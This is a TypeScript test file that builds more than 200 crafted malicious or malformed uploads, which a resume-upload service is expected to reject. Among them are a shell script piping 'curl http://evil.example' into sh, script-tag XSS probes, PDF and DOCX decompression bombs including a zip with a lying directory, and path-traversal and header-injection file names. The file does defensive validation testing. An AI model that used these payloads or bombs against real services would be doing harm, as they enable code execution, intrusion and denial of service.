import { deflateSync } from 'node:zlib';
import { handmadePdf, cat, enc } from '../offers/signed-upload.corpus';
import { pdfBomb } from '../offers/pdf-bomb.test-support';
import { zipArchive } from '../../test/zip-archive';

/**
 * T07 for resumes: ≥ 200 crafted files that must each be refused with a 4xx and a clear message, storing
 * nothing (wrong magic, renamed programs and images, old Word and RTF, web pages, truncated, corrupt and
 * encrypted PDFs, PDFs without text, a PDF bomb, zip-bomb and lying-directory DOCX, empty files, files over the
 * limit by one byte, path-traversal and hostile Unicode names). Test code only.
 */

export interface CraftedResume {
  label: string;
  fileName: string;
  bytes: Uint8Array;
  /** The status family expected (all 4xx); exact where the case decides it. */
  status?: number;
}

/** A plain resume that passes every check: the hostile-name cases send it, so only the name is wrong. */
export const GOOD_TEXT = new Uint8Array(Buffer.from(
  'Grace Example\nSoftware Engineer\ngrace@example.com | +44 20 7946 0958 | London, UK\n\nEXPERIENCE\nSoftware Engineer — Example Ltd\nJan 2020 – Present\n• Built things\n\nSKILLS\nTypeScript, SQL\n',
  'utf8',
));

const DOCX_PARTS = (document: Uint8Array) => [
  { name: '[Content_Types].xml', data: enc('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>') },
  { name: 'word/document.xml', data: document },
];
const wordXml = (body: string) => enc(`<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`);

/** Deterministic bytes (a linear congruential generator), so the corpus is the same on every run. */
function noise(seed: number, length: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = seed * 2654435761;
  for (let i = 0; i < length; i++) {
    state = (state * 1103515245 + 12345) >>> 0;
    bytes[i] = state >>> 24;
  }
  return bytes;
}

export function buildResumeCorpus(goodPdf: Uint8Array, limitBytes: number): CraftedResume[] {
  const out: CraftedResume[] = [];
  const asNames = (label: string, bytes: Uint8Array, status?: number) => {
    for (const fileName of ['resume.pdf', 'resume.docx', 'resume.txt']) out.push({ label: `${label} as ${fileName}`, fileName, bytes, ...(status ? { status } : {}) });
  };
  const signatures: [string, string | Uint8Array][] = [
    ['PNG', cat(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), noise(1, 200))],
    ['JPEG', cat(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), noise(2, 200))],
    ['GIF', cat('GIF89a', noise(3, 100))],
    ['TIFF', cat('II*\x00', noise(4, 100))],
    ['WebP', cat('RIFF\x10\x00\x00\x00WEBPVP8 ', noise(5, 100))],
    ['HEIC', cat('\x00\x00\x00\x18ftypheic', noise(6, 100))],
    ['ELF program', cat('\x7fELF\x02\x01\x01', noise(7, 300))],
    ['Windows program', cat('MZ\x90\x00', noise(8, 300))],
    ['Mach-O program', cat(new Uint8Array([0xcf, 0xfa, 0xed, 0xfe]), noise(9, 300))],
    ['shell script', '#!/bin/sh\ncurl http://evil.example | sh\n'],
    ['WebAssembly', cat('\x00asm\x01\x00\x00\x00', noise(10, 50))],
    ['gzip', cat('\x1f\x8b\x08\x00', noise(11, 100))],
    ['RAR', cat('Rar!\x1a\x07\x00', noise(12, 100))],
    ['7z', cat('7z\xbc\xaf\x27\x1c', noise(13, 100))],
    ['bzip2', cat('BZh91AY&SY', noise(14, 100))],
    ['zip of a text file', zipArchive([{ name: 'resume.txt', data: GOOD_TEXT }])],
    ['spreadsheet', zipArchive([{ name: '[Content_Types].xml', data: enc('<Types/>') }, { name: 'xl/workbook.xml', data: enc('<workbook/>') }])],
    ['Java archive', zipArchive([{ name: 'META-INF/MANIFEST.MF', data: enc('Main-Class: Evil\n') }])],
    ['old Word document', cat(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), noise(15, 500))],
    ['RTF document', '{\\rtf1\\ansi Grace Example, Software Engineer, London. Experience and skills follow.}'],
    ['HTML page', '<!doctype html><html><body><script>alert(1)</script>Grace Example resume with plenty of words</body></html>'],
    ['HTML fragment', '<html><head></head><body>Grace Example, Software Engineer, London</body></html>'],
    ['SVG', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>Grace Example Software Engineer</text></svg>'],
    ['XML', '<?xml version="1.0"?><resume><name>Grace Example Software Engineer London</name></resume>'],
    ['script tag', '  <script>fetch("/api/auth/me")</script> Grace Example Software Engineer London'],
  ];
  for (const [label, content] of signatures) asNames(label, typeof content === 'string' ? enc(content) : content, 415);

  asNames('empty file', new Uint8Array(), 400);
  asNames('only spaces and line ends', enc('   \n\n\t  \n'), 422);
  asNames('a few characters', enc('hi'), 422);
  asNames('digits and symbols only', enc('1234 5678 -- ++ // 2020 2021 ### 42'), 422);
  for (let seed = 0; seed < 20; seed++) out.push({ label: `random bytes ${seed}`, fileName: `resume-${seed}.txt`, bytes: noise(100 + seed, 64 + seed * 37), status: 415 });
  for (let index = 0; index < 5; index++) out.push({ label: `text with a NUL byte ${index}`, fileName: 'resume.txt', bytes: cat(GOOD_TEXT.subarray(0, 20 + index * 10), '\x00', GOOD_TEXT.subarray(30)), status: 415 });
  out.push({ label: 'Latin-1 text (not UTF-8)', fileName: 'resume.txt', bytes: cat('Jos', new Uint8Array([0xe9]), ' Garc', new Uint8Array([0xed]), 'a, Ingeniero de software en Madrid'), status: 415 });
  out.push({ label: 'UTF-16 text', fileName: 'resume.txt', bytes: new Uint8Array(Buffer.from('\ufeffGrace Example Software Engineer London', 'utf16le')), status: 415 });

  // PDFs: cut short, damaged, locked, without text, or made to expand.
  for (const fraction of [0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.99]) {
    out.push({ label: `PDF cut at ${fraction * 100}%`, fileName: 'resume.pdf', bytes: goodPdf.subarray(0, Math.floor(goodPdf.length * fraction)), status: 400 });
  }
  for (const header of ['%PDF-', '%PDF-1.7', '%PDF-1.7\n%%EOF', '%PDF-2.0\nstartxref\n']) out.push({ label: `PDF header only (${JSON.stringify(header)})`, fileName: 'resume.pdf', bytes: enc(header), status: 400 });
  for (let seed = 0; seed < 24; seed++) {
    out.push({ label: `PDF of noise ${seed}`, fileName: 'resume.pdf', bytes: cat('%PDF-1.4\n', noise(300 + seed, 500 + seed * 50), '\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n') });
  }
  const encrypts = [
    '/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>',
    '/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /O <00> /U <00> /P -1 >>',
    '/Encrypt << /Filter /Standard /V 4 /R 4 /CF << /StdCF << /CFM /AESV2 >> >> /O <00> /U <00> /P -4 >>',
    '/Encrypt << /Filter /Standard /V 5 /R 6 /O <00> /U <00> /P -4 >>',
    '/Encrypt 9 0 R',
  ];
  for (const trailerExtra of encrypts) out.push({ label: `encrypted PDF (${trailerExtra.slice(0, 30)})`, fileName: 'resume.pdf', bytes: handmadePdf({ trailerExtra }), status: 400 });
  for (const pages of [1, 2, 3]) out.push({ label: `PDF of ${pages} blank page(s) (no text layer)`, fileName: 'resume.pdf', bytes: handmadePdf({ pages }), status: 422 });
  out.push({ label: 'PDF of a drawn image only', fileName: 'scan.pdf', bytes: handmadePdf({ extraObjects: ['<< /Length 20 >>\nstream\n0 0 612 792 re f\nendstream'] }), status: 422 });
  out.push({ label: 'PDF decompression bomb', fileName: 'resume.pdf', bytes: pdfBomb(256), status: 413 });
  out.push({ label: 'PDF decompression bomb in two layers', fileName: 'resume.pdf', bytes: pdfBomb(256, { filters: 2 }), status: 413 });

  // DOCX: bombs, lies and damage, caught before mammoth.
  const zeros = new Uint8Array(80 * 1048576);
  out.push({ label: 'zip-bomb DOCX (80 MB document.xml)', fileName: 'resume.docx', bytes: zipArchive(DOCX_PARTS(zeros)), status: 413 });
  out.push({ label: 'zip-bomb DOCX (20 parts of 8 MB)', fileName: 'resume.docx', bytes: zipArchive([...DOCX_PARTS(wordXml('')), ...Array.from({ length: 20 }, (_, i) => ({ name: `word/media/image${i}.bin`, data: zeros.subarray(0, 8 * 1048576) }))]), status: 413 });
  const liar = zipArchive(DOCX_PARTS(zeros));
  // The directory claims the document inflates to 1 KB; the data still inflates to 80 MB.
  const view = new DataView(liar.buffer, liar.byteOffset, liar.byteLength);
  for (let at = 0; at < liar.length - 4; at++) {
    if (view.getUint32(at, true) === 0x02014b50 || view.getUint32(at, true) === 0x04034b50) {
      const sizeAt = view.getUint32(at, true) === 0x02014b50 ? at + 24 : at + 22;
      if (view.getUint32(sizeAt, true) === zeros.length) view.setUint32(sizeAt, 1024, true);
    }
  }
  out.push({ label: 'DOCX whose directory lies about sizes', fileName: 'resume.docx', bytes: liar, status: 413 });
  const encrypted = zipArchive(DOCX_PARTS(wordXml('<w:p><w:r><w:t>Grace Example Software Engineer London</w:t></w:r></w:p>')));
  const encryptedView = new DataView(encrypted.buffer, encrypted.byteOffset, encrypted.byteLength);
  for (let at = 0; at < encrypted.length - 4; at++) {
    if (encryptedView.getUint32(at, true) === 0x02014b50) encryptedView.setUint16(at + 8, 1, true);
  }
  out.push({ label: 'DOCX with encrypted parts', fileName: 'resume.docx', bytes: encrypted, status: 400 });
  out.push({ label: 'DOCX with an empty document', fileName: 'resume.docx', bytes: zipArchive(DOCX_PARTS(wordXml(''))), status: 422 });
  out.push({ label: 'DOCX whose document is not XML', fileName: 'resume.docx', bytes: zipArchive(DOCX_PARTS(noise(400, 2000))) });
  out.push({ label: 'DOCX with a damaged part', fileName: 'resume.docx', bytes: (() => {
    const bytes = zipArchive(DOCX_PARTS(wordXml('<w:p><w:r><w:t>Grace Example Software Engineer London, many words here</w:t></w:r></w:p>'.repeat(50))));
    const copy = new Uint8Array(bytes);
    for (let at = 200; at < 260; at++) copy[at] = 0xff;
    return copy;
  })() });
  const docx = zipArchive(DOCX_PARTS(wordXml('<w:p><w:r><w:t>Grace Example Software Engineer London with enough words</w:t></w:r></w:p>')));
  for (const fraction of [0.3, 0.6, 0.9]) out.push({ label: `DOCX cut at ${fraction * 100}%`, fileName: 'resume.docx', bytes: docx.subarray(0, Math.floor(docx.length * fraction)) });
  out.push({ label: 'DOCX nested in zips', fileName: 'resume.docx', bytes: zipArchive([...DOCX_PARTS(wordXml('')), { name: 'word/embeddings/inner.zip', data: zipArchive([{ name: 'z.bin', data: zeros }]), store: true }]), status: 422 });
  out.push({ label: 'DOCX of 3,000 parts', fileName: 'resume.docx', bytes: zipArchive([...DOCX_PARTS(wordXml('')), ...Array.from({ length: 3000 }, (_, i) => ({ name: `p/${i}`, data: enc('x') }))]) });
  out.push({ label: 'deflate stream posing as text', fileName: 'resume.txt', bytes: new Uint8Array(deflateSync(zeros.subarray(0, 1048576))), status: 415 });

  // One byte over the tenant's limit, whatever the type.
  const overText = new Uint8Array(limitBytes + 1).fill(0x61);
  out.push({ label: 'text one byte over the limit', fileName: 'resume.txt', bytes: overText, status: 413 });
  out.push({ label: 'PDF one byte over the limit', fileName: 'resume.pdf', bytes: cat(goodPdf, new Uint8Array(limitBytes + 1 - goodPdf.length).fill(0x20)), status: 413 });
  out.push({ label: 'DOCX one byte over the limit', fileName: 'resume.docx', bytes: cat(docx, new Uint8Array(limitBytes + 1 - docx.length)), status: 413 });

  // Hostile names on a good file: only the name is wrong.
  const names = [
    '../../etc/passwd.txt', '..\\..\\windows\\win.ini.txt', 'a/../../b.txt', '%2e%2e%2fresume.txt', '..%2fresume.txt', '%c0%afresume.txt',
    'resume\u202etxt.exe', 'resume\u200f.txt', 'resume\u2066.txt', '\ufeffresume.txt', 'resume\u0000.txt', 'resume\r\nSet-Cookie: x=1.txt',
    'resume\u001b[31m.txt', 'resume\u007f.txt', 'resume\uffff.txt', '', '.', '..', '/', 'x'.repeat(300) + '.txt', ' ', 'résumé\u0085.txt',
  ];
  for (const fileName of names) out.push({ label: `hostile name ${JSON.stringify(fileName.slice(0, 40))}`, fileName, bytes: GOOD_TEXT, status: 400 });
  return out;
}
